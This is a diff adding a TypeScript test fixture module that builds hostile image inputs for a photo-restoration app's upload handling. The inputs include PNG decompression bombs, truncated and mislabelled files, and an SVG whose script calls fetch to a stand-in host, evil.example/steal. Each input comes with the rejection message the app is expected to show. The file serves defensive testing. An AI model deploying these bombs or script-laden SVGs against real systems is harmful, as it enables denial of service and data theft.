@@ -1,0 +1,189 @@
+import { deflateSync } from 'node:zlib';
+import { PNG } from 'pngjs';
+import sharp from 'sharp';
+import { encodePng, photoFixture, type Rgba } from './images';
+
+/**
+ * Hostile and unusual inputs, built byte by byte in Node (no fixture files): what a user might
+ * drop on the app by accident or on purpose. Each entry says what must happen: a result of a
+ * given size, or a message matching `message`.
+ */
+export interface HostileInput {
+  id: string;
+  name: string;
+  mimeType: string;
+  bytes: Buffer;
+  /** The recipe: 'fade' (fast, no model) or an upscale x2 'fast' run that exercises tiling. */
+  recipe: 'fade' | 'upscale-fast-x2';
+  expect: { size: [number, number] } | { message: RegExp };
+}
+
+const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
+  let c = n;
+  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
+  return c >>> 0;
+});
+
+function crc32(buf: Buffer): number {
+  let c = 0xffffffff;
+  for (const b of buf) c = CRC_TABLE[(c ^ b) & 0xff]! ^ (c >>> 8);
+  return (c ^ 0xffffffff) >>> 0;
+}
+
+/** One PNG chunk: length, type, data, CRC over type + data. */
+export function pngChunk(type: string, data: Buffer): Buffer {
+  const len = Buffer.alloc(4);
+  len.writeUInt32BE(data.length);
+  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
+  const crc = Buffer.alloc(4);
+  crc.writeUInt32BE(crc32(body));
+  return Buffer.concat([len, body, crc]);
+}
+
+const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
+
+function ihdr(width: number, height: number, bitDepth = 8, colorType = 2): Buffer {
+  const d = Buffer.alloc(13);
+  d.writeUInt32BE(width, 0);
+  d.writeUInt32BE(height, 4);
+  d[8] = bitDepth;
+  d[9] = colorType;
+  return pngChunk('IHDR', d);
+}
+
+/**
+ * An image bomb: a valid PNG header declaring width x height (RGB, 8-bit) whose small IDAT holds
+ * only a few zero rows. A decoder that trusted the header would allocate width*height*4 bytes.
+ */
+export function pngBomb(width: number, height: number): Buffer {
+  const rows = Buffer.alloc(4 * (1 + width * 3)); // four filter-0 rows of black
+  return Buffer.concat([PNG_SIGNATURE, ihdr(width, height), pngChunk('IDAT', deflateSync(rows, { level: 9 })), pngChunk('IEND', Buffer.alloc(0))]);
+}
+
+/** Raw RGBA -> PNG scanlines (filter 0) deflated. */
+function idatData(img: Rgba): Buffer {
+  const raw = Buffer.alloc(img.height * (1 + img.width * 4));
+  for (let y = 0; y < img.height; y++) Buffer.from(img.data.subarray(y * img.width * 4, (y + 1) * img.width * 4)).copy(raw, y * (1 + img.width * 4) + 1);
+  return deflateSync(raw);
+}
+
+/** An APNG with two full-size frames: the first `first`, the second `second` (same size). */
+export function apng(first: Rgba, second: Rgba): Buffer {
+  const { width, height } = first;
+  const u32 = (...v: number[]) => Buffer.concat(v.map((x) => { const b = Buffer.alloc(4); b.writeUInt32BE(x); return b; }));
+  const fctl = (seq: number) => Buffer.concat([u32(seq, width, height, 0, 0), Buffer.from([0, 10, 0, 100, 0, 0])]); // 10/100 s, no dispose/blend
+  return Buffer.concat([
+    PNG_SIGNATURE,
+    ihdr(width, height, 8, 6),
+    pngChunk('acTL', u32(2, 0)),
+    pngChunk('fcTL', fctl(0)),
+    pngChunk('IDAT', idatData(first)),
+    pngChunk('fcTL', fctl(1)),
+    pngChunk('fdAT', Buffer.concat([u32(2), idatData(second)])),
+    pngChunk('IEND', Buffer.alloc(0)),
+  ]);
+}
+
+/**
+ * A two-frame animated GIF (4-colour palette) of solid colours. LZW: minimum code size 2, and a
+ * clear code every two pixels keeps every code 3 bits wide, so no real compressor is needed.
+ */
+export function animatedGif(width: number, height: number): Buffer {
+  const palette = [0xc0, 0x30, 0x30, 0x30, 0x30, 0xc0, 0x30, 0xc0, 0x30, 0xff, 0xff, 0xff];
+  const frame = (colour: number) => {
+    const codes: number[] = [];
+    for (let i = 0; i < width * height; i++) {
+      if (i % 2 === 0) codes.push(4); // clear
+      codes.push(colour);
+    }
+    codes.push(5); // end of information
+    const bytes: number[] = [];
+    let acc = 0, bits = 0;
+    for (const c of codes) {
+      acc |= c << bits;
+      bits += 3;
+      while (bits >= 8) { bytes.push(acc & 0xff); acc >>= 8; bits -= 8; }
+    }
+    if (bits > 0) bytes.push(acc & 0xff);
+    const blocks: number[] = [];
+    for (let i = 0; i < bytes.length; i += 255) { const part = bytes.slice(i, i + 255); blocks.push(part.length, ...part); }
+    return [
+      0x21, 0xf9, 4, 0, 10, 0, 0, 0, // graphic control: 0.1 s
+      0x2c, 0, 0, 0, 0, width & 0xff, width >> 8, height & 0xff, height >> 8, 0, // image descriptor
+      2, ...blocks, 0,
+    ];
+  };
+  return Buffer.from([
+    ...Buffer.from('GIF89a', 'latin1'), width & 0xff, width >> 8, height & 0xff, height >> 8, 0xf1, 0, 0, ...palette,
+    0x21, 0xff, 11, ...Buffer.from('NETSCAPE2.0', 'latin1'), 3, 1, 0, 0, 0, // loop forever
+    ...frame(0), ...frame(1), 0x3b,
+  ]);
+}
+
+/** A 16-bit-per-channel RGB PNG. */
+export function png16(width: number, height: number): Buffer {
+  const png = new PNG({ width, height, bitDepth: 16, colorType: 2, inputColorType: 2, inputHasAlpha: false });
+  const data = Buffer.alloc(width * height * 3 * 2);
+  for (let i = 0; i < width * height; i++) {
+    data.writeUInt16BE((i * 977) % 65536, i * 6);
+    data.writeUInt16BE(40000, i * 6 + 2);
+    data.writeUInt16BE(12000, i * 6 + 4);
+  }
+  png.data = data;
+  return PNG.sync.write(png, { bitDepth: 16, colorType: 2, inputColorType: 2, inputHasAlpha: false });
+}
+
+/** An 8-bit grey + alpha PNG (colour type 4). */
+export function pngGreyAlpha(width: number, height: number): Buffer {
+  const png = new PNG({ width, height });
+  for (let i = 0; i < width * height; i++) png.data.set([(i * 7) % 256, (i * 7) % 256, (i * 7) % 256, 128 + (i % 128)], i * 4);
+  return PNG.sync.write(png, { colorType: 4 });
+}
+
+/** A solid-ish RGBA image of the given size (no photo needed: thin and tiny shapes). */
+export function gradient(width: number, height: number): Rgba {
+  const data = new Uint8Array(width * height * 4);
+  for (let y = 0; y < height; y++) for (let x = 0; x < width; x++) data.set([(x * 255) / Math.max(1, width - 1), 128, (y * 255) / Math.max(1, height - 1), 255], (y * width + x) * 4);
+  return { width, height, data };
+}
+
+export const svgWithScript = Buffer.from(`<?xml version="1.0"?>
+<svg xmlns="http://www.w3.org/2000/svg" width="40" height="30" onload="alert('svg-onload')">
+  <script>alert('svg-script'); console.log('HEIRLOOM-SVG-SCRIPT-RAN'); fetch('https://evil.example/steal');</script>
+  <rect width="40" height="30" fill="red"/>
+</svg>
+`);
+
+/** A few bytes of a HEIC file: an ISO-BMFF 'ftyp' box with brand heic, then a truncated 'meta'. */
+export const heicStub = Buffer.concat([
+  Buffer.from([0, 0, 0, 0x18]), Buffer.from('ftypheic', 'latin1'), Buffer.from([0, 0, 0, 0]), Buffer.from('mif1heic', 'latin1'),
+  Buffer.from([0, 0, 0, 0x22]), Buffer.from('meta', 'latin1'), Buffer.alloc(26),
+]);
+
+/** Everything, in the order the spec runs it. */
+export async function hostileCorpus(): Promise<HostileInput[]> {
+  const photo = photoFixture(40, 30);
+  const jpeg = await sharp(Buffer.from(photo.image.data), { raw: { width: 40, height: 30, channels: 4 } }).jpeg({ quality: 90 }).toBuffer();
+  const cmyk = await sharp(Buffer.from(photo.image.data), { raw: { width: 40, height: 30, channels: 4 } }).toColourspace('cmyk').jpeg({ quality: 90 }).toBuffer();
+  const red: Rgba = { width: 24, height: 16, data: new Uint8Array(24 * 16 * 4).map((_, i) => [200, 40, 40, 255][i % 4]!) };
+  const blue: Rgba = { width: 24, height: 16, data: new Uint8Array(24 * 16 * 4).map((_, i) => [40, 40, 200, 255][i % 4]!) };
+  const unreadable = /could not be read as an image: this (JPEG|PNG) file is damaged or incomplete.*exporting it again as JPEG or PNG/;
+  return [
+    { id: 'zero-byte', name: 'empty.jpg', mimeType: 'image/jpeg', bytes: Buffer.alloc(0), recipe: 'fade', expect: { message: /empty.jpg is empty \(0 bytes\)\. Choose the photo file again/ } },
+    { id: 'truncated-jpeg', name: 'cut.jpg', mimeType: 'image/jpeg', bytes: jpeg.subarray(0, Math.floor(jpeg.length * 0.4)), recipe: 'fade', expect: { message: unreadable } },
+    { id: 'truncated-png', name: 'cut.png', mimeType: 'image/png', bytes: photo.png.subarray(0, photo.png.length >> 1), recipe: 'fade', expect: { message: unreadable } },
+    { id: 'png-named-jpg', name: 'really-a-png.jpg', mimeType: 'image/jpeg', bytes: photo.png, recipe: 'fade', expect: { size: [40, 30] } },
+    { id: 'text-named-png', name: 'notes.png', mimeType: 'image/png', bytes: Buffer.from('Grandma, 1962, at the lake.\nScan the rest next week.\n'), recipe: 'fade', expect: { message: /notes.png is not an image: it contains text\. Choose a photo \(JPEG, PNG/ } },
+    { id: 'bomb-30000', name: 'bomb.png', mimeType: 'image/png', bytes: pngBomb(30000, 30000), recipe: 'fade', expect: { message: /bomb.png declares 30000x30000 pixels \(900 MP\); Heirloom handles up to 250 MP\. Reduce it first/ } },
+    { id: 'bomb-60000', name: 'bomb-60k.png', mimeType: 'image/png', bytes: pngBomb(60000, 60000), recipe: 'fade', expect: { message: /declares 60000x60000 pixels \(3600 MP\); Heirloom handles up to 250 MP/ } },
+    { id: 'cmyk-jpeg', name: 'cmyk.jpg', mimeType: 'image/jpeg', bytes: cmyk, recipe: 'fade', expect: { size: [40, 30] } },
+    { id: 'png-16-bit', name: 'deep.png', mimeType: 'image/png', bytes: png16(32, 20), recipe: 'fade', expect: { size: [32, 20] } },
+    { id: 'png-grey-alpha', name: 'grey-alpha.png', mimeType: 'image/png', bytes: pngGreyAlpha(30, 20), recipe: 'fade', expect: { size: [30, 20] } },
+    { id: 'animated-gif', name: 'animated.gif', mimeType: 'image/gif', bytes: animatedGif(24, 16), recipe: 'fade', expect: { size: [24, 16] } },
+    { id: 'apng', name: 'animated.png', mimeType: 'image/png', bytes: apng(red, blue), recipe: 'fade', expect: { size: [24, 16] } },
+    { id: 'svg-script', name: 'drawing.svg', mimeType: 'image/svg+xml', bytes: svgWithScript, recipe: 'fade', expect: { message: /drawing.svg is an SVG drawing, not a photo.*Export it as PNG or JPEG/ } },
+    { id: 'heic', name: 'IMG_0001.HEIC', mimeType: 'image/heic', bytes: heicStub, recipe: 'fade', expect: { message: /IMG_0001.HEIC is a HEIC photo, which this browser can't open\. Export it as JPEG/ } },
+    { id: '1x1', name: 'dot.png', mimeType: 'image/png', bytes: encodePng(gradient(1, 1)), recipe: 'upscale-fast-x2', expect: { size: [2, 2] } },
+    { id: 'thin-10000x2', name: 'thin.png', mimeType: 'image/png', bytes: encodePng(gradient(10000, 2)), recipe: 'upscale-fast-x2', expect: { size: [20000, 4] } },
+  ];
+}
